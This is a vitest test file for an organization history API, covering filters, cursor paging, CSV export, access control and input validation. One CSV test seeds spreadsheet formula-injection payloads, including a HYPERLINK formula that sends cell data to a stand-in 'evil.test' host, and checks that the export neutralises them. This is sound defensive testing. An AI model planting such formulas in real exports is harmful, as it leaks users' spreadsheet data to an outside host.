/**
 * portals/<orgId>/history (docs/history.md): every filter, nextKey paging under concurrent writes,
 * f=csv, who may read it, organization isolation, and bad input named in the error envelope.
 * Events are written through the outbox writer itself (recordEvents), dated in 2020 so the seed's
 * and other tests' events never fall in the windows read here.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startService, type TestService } from '../../../../test/support/service.ts';
import { HISTORY_CSV_COLUMNS, type HistoryEvent, type HistoryResponse } from '../../../shared/contract/history.ts';
import { recordEvents, type NewEvent } from '../../store/events.ts';

let svc: TestService;
const tokens: Record<string, string> = {};
const T0 = Date.UTC(2020, 0, 1);
const HOUR = 3_600_000;
const WINDOW = { fromDate: String(T0), toDate: String(T0 + 1000 * HOUR) };

beforeAll(async () => {
  svc = await startService();
  for (const u of ['admin', 'publisher1', 'user1', 'viewer1', 'partner_admin']) tokens[u] = await svc.tokenFor(u);
  // 60 events, one an hour: items i0..i2 owned by publisher1/user1, groups, a role, the organization.
  const events: NewEvent[] = [];
  for (let n = 0; n < 60; n++) {
    const kind = n % 4;
    const actor = n % 3 === 0 ? 'admin' : 'publisher1';
    const base = { orgId: svc.orgId, actor: { userId: `uid-${actor}`, username: actor }, when: T0 + n * HOUR, properties: { n } };
    if (kind === 0)
      events.push({
        ...base,
        source: 'item',
        operation: n % 8 === 0 ? 'reassign' : 'share',
        subjectId: `i${n % 3}`,
        history: { owner: (n / 4) % 2 ? 'user1' : 'publisher1', title: n % 3 === 2 ? 'Parcels, "north"\nzone' : `Item ${n % 3}`, data: { n } },
      });
    if (kind === 1) events.push({ ...base, source: 'group', operation: 'addUsers', subjectId: 'g1', history: { data: { usernames: ['user1'], n } } });
    if (kind === 2) events.push({ ...base, source: 'role', operation: 'update', subjectId: 'r1', history: { op: 'setPrivileges', data: { n } } });
    if (kind === 3)
      events.push({
        ...base,
        source: 'organization',
        operation: 'update',
        subjectId: svc.orgId,
        history: { op: 'updateOrganization', title: 'Demo', data: { n } },
      });
  }
  await svc.db.tx((q) => recordEvents(q, events));
});
afterAll(() => svc.close());

async function history(
  params: Record<string, string>,
  as = 'admin',
  orgId = svc.orgId,
): Promise<HistoryResponse & { error?: { code: number; fieldErrors?: Record<string, string>; details: string[] } }> {
  return svc.post(`portals/${orgId}/history`, params, tokens[as]);
}
const ns = (items: HistoryEvent[]) => items.map((e) => (e.data as { n: number }).n);

describe('filters', () => {
  it('all=true returns every type, newest first, 25 by default, with nextKey', async () => {
    const page = await history({ all: 'true', ...WINDOW });
    expect(page.items).toHaveLength(25);
    expect(ns(page.items)).toEqual(Array.from({ length: 25 }, (_, i) => 59 - i));
    expect(page.nextKey).toEqual(expect.any(String));
    expect(page.items[0]).toMatchObject({
      idType: 'a',
      action: 'update',
      actor: 'publisher1',
      orgId: svc.orgId,
      created: T0 + 59 * HOUR,
      eventId: expect.any(String),
      operation: 'updateOrganization',
    });
  });

  it('all=false (the default) with neither id nor types: organization events only', async () => {
    const page = await history({ num: '100', ...WINDOW });
    expect(page.items.length).toBe(15);
    expect(new Set(page.items.map((e) => e.idType))).toEqual(new Set(['a']));
  });

  it('id: one target; types: comma list of codes', async () => {
    expect(ns((await history({ id: 'i1', num: '100', ...WINDOW })).items)).toEqual([52, 40, 28, 16, 4]);
    const gr = await history({ types: 'g,r', num: '100', ...WINDOW });
    expect(gr.items).toHaveLength(30);
    expect(new Set(gr.items.map((e) => e.idType))).toEqual(new Set(['g', 'r']));
  });

  it('actors (any case), owners, actions (documented and operation names)', async () => {
    const byAdmin = await history({ all: 'true', actors: 'ADMIN', num: '100', ...WINDOW });
    expect(byAdmin.items).toHaveLength(20);
    expect(byAdmin.items.every((e) => e.actor === 'admin')).toBe(true);
    const owned = await history({ all: 'true', owners: 'user1', num: '100', ...WINDOW });
    expect(ns(owned.items)).toEqual([52, 44, 36, 28, 20, 12, 4]);
    const both = await history({ all: 'true', owners: 'user1,publisher1', num: '100', ...WINDOW });
    expect(both.items).toHaveLength(15);
    const adds = await history({ all: 'true', actions: 'addusers', num: '100', ...WINDOW });
    expect(adds.items).toHaveLength(15);
    expect(adds.items.every((e) => e.action === 'addusers' && e.id === 'g1')).toBe(true);
    const reassigns = await history({ all: 'true', actions: 'reassignItem', num: '100', ...WINDOW });
    expect(ns(reassigns.items)).toEqual([56, 48, 40, 32, 24, 16, 8, 0]);
    expect(reassigns.items.every((e) => e.action === 'update' && e.operation === 'reassignItem')).toBe(true);
  });

  it('fromDate/toDate inclusive, as epoch ms or ISO 8601; sortOrder=asc', async () => {
    const epoch = await history({ all: 'true', fromDate: String(T0 + 10 * HOUR), toDate: String(T0 + 12 * HOUR), sortOrder: 'asc' });
    expect(ns(epoch.items)).toEqual([10, 11, 12]);
    expect(epoch.nextKey).toBeUndefined();
    const iso = await history({ all: 'true', fromDate: '2020-01-01T10:00:00Z', toDate: '2020-01-01T12:00:00.000Z', sortOrder: 'asc' });
    expect(ns(iso.items)).toEqual([10, 11, 12]);
    const day = await history({ all: 'true', fromDate: '2020-01-02', toDate: String(T0 + 1000 * HOUR), sortOrder: 'asc', num: '2' });
    expect(ns(day.items)).toEqual([24, 25]);
  });

  it('GET answers like POST; f=pjson is indented', async () => {
    const res = await svc.app.inject({
      method: 'GET',
      url: `/sharing/rest/portals/self/history?f=pjson&all=true&num=2&fromDate=${WINDOW.fromDate}&toDate=${WINDOW.toDate}&token=${tokens.admin}`,
    });
    expect(ns(res.json().items)).toEqual([59, 58]);
    expect(res.body).toContain('\n  ');
  });
});

describe('paging', () => {
  it('nextKey pages through every event once, in order, while new events arrive (desc and asc)', async () => {
    const own = await startService();
    try {
      const admin = await own.tokenFor('admin');
      const write = (from: number, count: number, when: (i: number) => number) =>
        own.db.tx((q) =>
          recordEvents(
            q,
            Array.from({ length: count }, (_, i) => ({
              orgId: own.orgId,
              source: 'item' as const,
              operation: 'update',
              subjectId: `p${from + i}`,
              actor: null,
              when: when(i),
              properties: { n: from + i },
            })),
          ),
        );
      // 230 events, several sharing one millisecond (the seq breaks the tie).
      await write(0, 230, (i) => T0 + Math.floor(i / 3));
      for (const sortOrder of ['desc', 'asc'] as const) {
        const seen: number[] = [];
        let start: string | undefined;
        let extra = 1000;
        do {
          const [page] = await Promise.all([
            own.post(
              `portals/${own.orgId}/history`,
              { all: 'true', types: 'i', num: '40', sortOrder, fromDate: String(T0), toDate: String(T0 + 10_000), ...(start ? { start } : {}) },
              admin,
            ),
            // Concurrent writers: events inside the window at its newest end, and newer than it.
            write(extra, 2, () => T0 + 5000),
          ]);
          extra += 2;
          expect(page.error).toBeUndefined();
          seen.push(...ns(page.items).filter((n) => n < 1000));
          start = page.nextKey;
        } while (start);
        expect(new Set(seen).size).toBe(seen.length);
        const expected = Array.from({ length: 230 }, (_, i) => i);
        expect(seen).toEqual(sortOrder === 'desc' ? expected.reverse() : expected);
      }
    } finally {
      await own.close();
    }
  });
});

describe('f=csv', () => {
  it("streams the activity report's columns, num capping the file, start ignored, fields quoted", async () => {
    const url = (q: string) =>
      `/sharing/rest/portals/${svc.orgId}/history?f=csv&all=true&fromDate=${WINDOW.fromDate}&toDate=${WINDOW.toDate}&token=${tokens.admin}${q}`;
    const res = await svc.app.inject({ method: 'GET', url: url('&num=7&start=whatever') });
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    const lines = res.body.trimEnd().split('\r\n');
    expect(lines[0]).toBe(HISTORY_CSV_COLUMNS.join(','));
    // An item title with a comma, quotes and a line break is one quoted field.
    expect(res.body).toContain(',"Parcels, ""north""\nzone",i,');
    // The header and num=7 events (the quoted line break is not a record separator).
    expect(lines).toHaveLength(8);
    const all = await svc.app.inject({ method: 'GET', url: url('') });
    expect(all.body.match(/\r\n/g)).toHaveLength(61);
    const first = all.body.split('\r\n')[1];
    expect(first).toMatch(new RegExp(`^${svc.orgId},,a,${svc.orgId},Demo Organization,`));
    expect(first).toContain(',update,2020-01-03T11:00:00.000Z,');
    expect((await svc.app.inject({ method: 'GET', url: url('&num=10001') })).json().error.fieldErrors).toHaveProperty('num');
  });
});

/** RFC 4180 records: quoted fields may hold commas, doubled quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted && ch === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (ch === '"') {
      quoted = !quoted;
    } else if (!quoted && ch === ',') {
      row.push(field);
      field = '';
    } else if (!quoted && ch === '\r' && text[i + 1] === '\n') {
      rows.push([...row, field]);
      row = [];
      field = '';
      i++;
    } else {
      field += ch;
    }
  }
  return rows;
}

describe('f=csv and spreadsheet formulas', () => {
  it('a cell beginning with = + - @, a tab or a carriage return is written with a leading quote, the rest of it unchanged', async () => {
    const T = Date.UTC(2019, 5, 1);
    const formulas = ['=HYPERLINK("https://evil.test/?"&A1,"open")', '+SUM(1,2)', '-2+3', '@cmd', '\tpadded', '\r=1+1'];
    await svc.db.tx((q) =>
      recordEvents(
        q,
        formulas.map((title, n) => ({
          orgId: svc.orgId,
          actor: { userId: 'uid-admin', username: 'admin' },
          when: T + n * HOUR,
          source: 'item' as const,
          operation: 'update',
          subjectId: `f${n}`,
          history: { owner: formulas[(n + 1) % formulas.length], title, data: { n } },
        })),
      ),
    );
    const res = await svc.app.inject({
      method: 'GET',
      url: `/sharing/rest/portals/${svc.orgId}/history?f=csv&all=true&fromDate=${T}&toDate=${T + 10 * HOUR}&token=${tokens.admin}`,
    });
    const [header, ...rows] = parseCsv(res.body);
    expect(header).toEqual([...HISTORY_CSV_COLUMNS]);
    expect(rows).toHaveLength(formulas.length);
    const col = (name: string) => HISTORY_CSV_COLUMNS.indexOf(name as (typeof HISTORY_CSV_COLUMNS)[number]);
    expect(rows.map((r) => r[col('itemTitle')]).sort()).toEqual(formulas.map((f) => `'${f}`).sort());
    expect(rows.map((r) => r[col('owner')]).sort()).toEqual(formulas.map((f) => `'${f}`).sort());
    // No cell of the file starts a formula.
    for (const r of rows) for (const cell of r) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe('access and isolation', () => {
  it('administrators of the organization only', async () => {
    for (const u of ['publisher1', 'user1', 'viewer1']) expect((await history({ all: 'true' }, u)).error?.code).toBe(403);
    expect((await svc.app.inject({ method: 'GET', url: `/sharing/rest/portals/${svc.orgId}/history?f=json` })).json().error.code).toBe(499);
  });

  it("another organization's administrator gets 403 for it and sees only their own organization's events", async () => {
    const other = await history({ all: 'true' }, 'partner_admin');
    expect(other.error?.code).toBe(403);
    const own = await history({ all: 'true', num: '100' }, 'partner_admin', svc.partnerOrgId);
    expect(own.error).toBeUndefined();
    expect(own.items.every((e) => e.orgId === svc.partnerOrgId)).toBe(true);
    const self = await svc.post('portals/self/history', { all: 'true', id: 'i1' }, tokens.partner_admin);
    expect(self.items).toEqual([]);
    // A cursor from one organization reads nothing of another's.
    const demo = await history({ all: 'true', num: '1', ...WINDOW });
    const cross = await svc.post('portals/self/history', { all: 'true', start: demo.nextKey! }, tokens.partner_admin);
    expect(cross.items.every((e: HistoryEvent) => e.orgId === svc.partnerOrgId)).toBe(true);
  });
});

describe('custom roles and local extras', () => {
  it('a custom administrator role needs the view-all privileges; an administrator with them reads history', async () => {
    const create = await svc.post(`portals/${svc.orgId}/createRole`, { name: 'Half admin', description: '' }, tokens.admin);
    // Administrative, but without portal:admin:viewItems (nor viewGroups).
    await svc.post(
      `portals/${svc.orgId}/roles/${create.id}/setPrivileges`,
      { privileges: JSON.stringify({ privileges: ['portal:admin:viewUsers', 'portal:admin:updateUsers'] }) },
      tokens.admin,
    );
    expect((await svc.post(`portals/${svc.orgId}/updateUserRole`, { user: 'publisher1', role: create.id }, tokens.admin)).success).toBe(true);
    const half = await svc.tokenFor('publisher1');
    expect((await svc.post(`portals/${svc.orgId}/history`, { all: 'true' }, half)).error.code).toBe(403);
    await svc.post(
      `portals/${svc.orgId}/roles/${create.id}/setPrivileges`,
      { privileges: JSON.stringify({ privileges: ['portal:admin:viewUsers', 'portal:admin:viewGroups', 'portal:admin:viewItems'] }) },
      tokens.admin,
    );
    const page = await svc.post(`portals/${svc.orgId}/history`, { all: 'true', num: '1', ...WINDOW }, half);
    expect(page.error).toBeUndefined();
    expect(ns(page.items)).toEqual([59]);
    await svc.post(`portals/${svc.orgId}/updateUserRole`, { user: 'publisher1', role: 'org_publisher' }, tokens.admin);
  });

  it('with LOCAL_EXTRAS=off the events lose eventId and operation, and keep the documented fields', async () => {
    const plain = await startService({ config: { localExtras: false } });
    try {
      const token = await plain.tokenFor('admin');
      const page = await plain.post(`portals/${plain.orgId}/history`, { all: 'true', num: '3' }, token);
      expect(page.items.length).toBeGreaterThan(0);
      for (const e of page.items) {
        expect(e).not.toHaveProperty('eventId');
        expect(e).not.toHaveProperty('operation');
        expect(e).toMatchObject({
          id: expect.any(String),
          idType: expect.any(String),
          action: expect.any(String),
          created: expect.any(Number),
          orgId: plain.orgId,
          data: expect.any(Object),
        });
      }
    } finally {
      await plain.close();
    }
  });
});

describe('bad input: 400 naming the parameter, never a 500', () => {
  const cases: [string, Record<string, string>][] = [
    ['start', { start: 'not-a-cursor!' }],
    ['start', { start: Buffer.from('{"c":1}').toString('base64url') }],
    ['start', { start: Buffer.from(JSON.stringify({ c: 1, s: 2, o: 'a' })).toString('base64url') }],
    ['fromDate', { fromDate: 'yesterday' }],
    ['toDate', { toDate: '2020-13-45' }],
    ['fromDate', { fromDate: String(T0 + HOUR), toDate: String(T0) }],
    ['types', { types: 'i,zz' }],
    ['actions', { actions: 'frobnicate' }],
    ['actors', { actors: 'admin,nobody_here' }],
    ['num', { num: '0' }],
    ['num', { num: '101' }],
    ['num', { num: 'ten' }],
    ['sortOrder', { sortOrder: 'sideways' }],
    ['f', { f: 'xml' }],
    ['id', { id: 'x'.repeat(300) }],
  ];
  it.each(cases)('%s: %j', async (param, params) => {
    const res = await svc.app.inject({
      method: 'POST',
      url: `/sharing/rest/portals/${svc.orgId}/history`,
      payload: { f: 'json', token: tokens.admin, all: 'true', ...params },
    });
    expect(res.statusCode).toBe(200);
    const { error } = res.json();
    expect(error.code).toBe(400);
    expect(error.fieldErrors ?? {}).toHaveProperty(param);
  });
});
